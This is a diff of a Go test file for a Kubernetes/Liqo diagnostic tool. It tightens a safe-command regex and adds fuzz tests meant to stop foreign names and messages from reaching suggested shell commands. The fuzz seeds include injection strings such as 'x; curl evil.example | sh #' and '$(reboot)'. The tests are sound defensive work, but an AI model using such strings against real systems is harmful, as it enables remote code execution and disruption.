@@ -14,13 +14,19 @@ import (
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/runtime"
 
+	"github.com/liqo-go/liqo/api"
+	authv1beta1 "github.com/liqo-go/liqo/api/authentication/v1beta1"
+	netv1beta1 "github.com/liqo-go/liqo/api/networking/v1beta1"
 	offv1beta1 "github.com/liqo-go/liqo/api/offloading/v1beta1"
 	"github.com/liqo-go/liqo/internal/story"
 	"github.com/liqo-go/liqo/why"
 )
 
 // command matches what users may paste into a shell without harm.
-var command = regexp.MustCompile(`^(kubectl|liqoctl)( -?[-A-Za-z0-9./=:]+| '[-A-Za-z0-9./=(), !]+')+$`)
+var command = regexp.MustCompile(`^(kubectl|liqoctl)( -{0,2}[A-Za-z0-9][-\w./=:,]*| '[A-Za-z0-9!][-\w./=(), !]*')+$`)
+
+// unready are the conditions of an object that is not ready.
+var unready = []metav1.Condition{{Type: "Ready", Status: metav1.ConditionFalse, Message: "no"}}
 
 // sound checks that an answer says something, and names one cause.
 func sound(t *testing.T, a why.Answer) {
@@ -69,12 +75,14 @@ func TestAnySubset(t *testing.T) {
 	})
 }
 
-// FuzzForeignText: what a provider writes reaches no command.
+// FuzzForeignText: what a provider or a user of one namespace writes reaches no command, unless it is a word.
 func FuzzForeignText(f *testing.F) {
 	f.Add("peering cpu quota usage exceeded - free 1 / requested 2", "Insufficient cpu")
 	f.Add("", "")
 	f.Add("user is cordoned", "$(reboot)\n`reboot`; reboot")
 	f.Add("cpu quota limit not found for this peering", "web quota limit not found")
+	f.Add("x; curl evil.example | sh #", "-x")
+	f.Add("'; reboot '", "shop'$(reboot)'")
 	f.Fuzz(func(t *testing.T, message, other string) {
 		pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "demo", Name: "web"}}
 		pod.Spec.NodeName = "milan-big"
@@ -97,6 +105,54 @@ func FuzzForeignText(f *testing.F) {
 		shadow.Status.Conditions[0].Reason = why.QuotaRefused
 		sound(t, why.Explain(in))
 		pod.Spec.NodeName = ""
+		sound(t, why.Explain(in))
+	})
+}
+
+// FuzzForeignNames: nor do names that a provider or a user of one namespace chooses, unless they are words.
+func FuzzForeignNames(f *testing.F) {
+	for _, name := range []string{"", "web", "-x", "x; curl evil.example | sh #", "$(reboot)", "'; reboot '", "a\nreboot"} {
+		f.Add(name)
+	}
+	f.Fuzz(func(t *testing.T, name string) {
+		meta := metav1.ObjectMeta{Namespace: name, Name: name, Labels: map[string]string{api.LabelRemoteClusterID: "rome"}}
+		pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "demo", Name: "web"}}
+		pod.Spec.NodeName, pod.Spec.Containers = "milan-big", []corev1.Container{{Name: "web"}}
+		pod.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: name,
+			State:                corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: name}},
+			LastTerminationState: corev1.ContainerState{Terminated: &corev1.ContainerStateTerminated{ExitCode: 1}}}}
+		objects := merged(t, "testdata/rome.yaml", nil, nil)
+		var mapping *offv1beta1.NamespaceMap
+		for _, o := range objects {
+			switch o := o.(type) {
+			case *offv1beta1.NamespaceMap:
+				mapping = o
+			case *offv1beta1.NamespaceOffloading:
+				o.Spec.NamespaceMappingStrategy, o.Spec.RemoteNamespaceName = offv1beta1.SelectedNameMapping, name
+				o.Spec.PodOffloadingStrategy = offv1beta1.LocalStrategy
+				o.Spec.ClusterSelector = &corev1.NodeSelector{NodeSelectorTerms: []corev1.NodeSelectorTerm{{MatchExpressions: []corev1.NodeSelectorRequirement{
+					{Key: name, Operator: corev1.NodeSelectorOpIn, Values: []string{name}}}}}}
+			}
+		}
+		in := why.Input{Subject: why.Subject{Kind: why.Pod, Namespace: "demo", Name: "web"},
+			Local: why.Cluster{ID: "rome", Objects: append(objects, pod)}}
+		sound(t, why.Explain(in))
+		in.Remote = &why.Cluster{ID: "milan", Objects: []runtime.Object{
+			&netv1beta1.Configuration{ObjectMeta: meta, Status: netv1beta1.ConfigurationStatus{Conditions: unready}}}}
+		in.Subject = why.Subject{Kind: why.Peer, Name: "milan"}
+		sound(t, why.Explain(in))
+		in.Remote.Objects = []runtime.Object{
+			&authv1beta1.Identity{ObjectMeta: meta, Status: authv1beta1.IdentityStatus{Conditions: unready}}}
+		sound(t, why.Explain(in))
+		for _, phase := range []offv1beta1.NamespacePhase{"", offv1beta1.NamespaceCreationLoopBackOff} {
+			mapping.Spec.DesiredMapping["demo"] = name
+			mapping.Status.CurrentMapping["demo"] = offv1beta1.RemoteNamespaceStatus{RemoteNamespace: name, Phase: phase}
+			in.Subject = why.Subject{Kind: why.Namespace, Name: "demo"}
+			sound(t, why.Explain(in))
+		}
+		pod.Spec.NodeName, pod.Status.ContainerStatuses = "", nil
+		pod.Status.Conditions = []corev1.PodCondition{{Type: corev1.PodScheduled, Status: corev1.ConditionFalse}}
+		in.Subject = why.Subject{Kind: why.Pod, Namespace: "demo", Name: "web"}
 		sound(t, why.Explain(in))
 	})
 }
